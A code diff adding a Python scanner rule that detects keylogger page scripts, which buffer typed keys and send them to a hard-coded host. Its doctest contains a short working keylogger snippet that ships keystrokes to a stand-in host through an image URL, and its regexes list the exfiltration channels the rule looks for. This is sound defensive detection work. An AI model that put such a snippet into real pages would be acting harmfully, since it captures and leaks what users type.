@@ -1,0 +1,61 @@
+"""A page script that records what the user types and sends it to a host it names.
+
+The family: a "UI test helper", "analytics snippet" or browser-extension content script
+listens to key events, appends each key to a buffer, and ships the buffer to an address
+written in the script (``fetch``, ``sendBeacon``, an image's ``src``, a WebSocket). A
+shortcut handler reads keys too, but compares them (``e.key === 'k'``); it does not pile
+them up and send them away.
+
+>>> js = '''document.addEventListener('keydown', (e) => { buf += e.key;
+...   if (buf.length > 40) { new Image().src = 'https://m.invalid/k?d=' + buf; } });'''
+>>> [f.rule_id for f in keylogger_findings("helper.js", js)]
+['js.keylogger']
+>>> keylogger_findings("keys.js", "addEventListener('keyup', e => { if (e.key === 'k') go(); });")
+[]
+"""
+
+from __future__ import annotations
+
+import re
+
+from .destinations import is_local
+from .findings import ThreatFinding, finding_at
+
+RULE_ID = "js.keylogger"
+_KEY_LISTENER = re.compile(
+    r"addEventListener\(\s*['\"`](?:keydown|keypress|keyup)['\"`]|\bonkey(?:down|press|up)\s*=",
+    re.I,
+)
+_KEY_COLLECTED = re.compile(
+    r"\+=?\s*\w+\.(?:key|keyCode|which|charCode|code)\b(?!\s*[=!]==?)"
+    r"|\.push\(\s*\w+\.(?:key|keyCode|which|charCode|code)\b"
+    r"|String\.fromCharCode\(\s*\w+\.(?:keyCode|which|charCode)\b"
+)
+"""A key appended to a buffer (not compared with one)."""
+_SENT_TO_HOST = re.compile(
+    r"(?:\bfetch|\bsendBeacon|\.open|\bWebSocket|\bEventSource|\.src\s*=)\s*\(?\s*(?:['\"`][A-Z]+['\"`]\s*,\s*)?"
+    r"['\"`]((?:https?|wss?)://[\w.-]+)"
+)
+"""A request to an address written in the script."""
+
+
+def keylogger_findings(path: str, text: str) -> list[ThreatFinding]:
+    """One finding at the key listener of a script that buffers keys and sends them out."""
+    listener = _KEY_LISTENER.search(text)
+    if not listener or not _KEY_COLLECTED.search(text):
+        return []
+    hosts = [m.group(1).split("://", 1)[1] for m in _SENT_TO_HOST.finditer(text)]
+    if not any(not is_local(host) for host in hosts):
+        return []
+    return [
+        finding_at(
+            path,
+            text,
+            listener.start(),
+            "8.2",
+            "critical",
+            "keylogger: a page script buffers the keys the user types and sends them to a "
+            "host written in the script",
+            RULE_ID,
+        )
+    ]
